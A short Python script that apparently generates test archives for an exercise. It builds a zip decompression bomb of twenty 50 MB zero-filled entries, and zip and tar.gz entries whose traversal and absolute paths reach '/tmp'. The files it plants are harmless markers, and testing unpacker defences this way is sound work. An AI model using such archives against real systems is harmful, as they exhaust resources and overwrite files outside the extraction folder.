"""Make archives that harm whoever unpacks them."""

import io
import os
import sys
import tarfile
import zipfile
from pathlib import Path

MARK = os.environ["KATA_ATTACK"]
folder = Path(sys.argv[1])
with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
    for number in range(20):
        bomb.writestr(f"{number}.txt", bytes(50_000_000))
    bomb.writestr(f"../../../../../../tmp/{MARK}-slipped.txt", "slipped")
with tarfile.open(folder / "bomb.tar.gz", "w:gz") as archive:
    for name in (f"../../{MARK}-slipped.txt", f"/tmp/{MARK}-slipped.txt"):
        archive.addfile(tarfile.TarInfo(name), io.BytesIO())
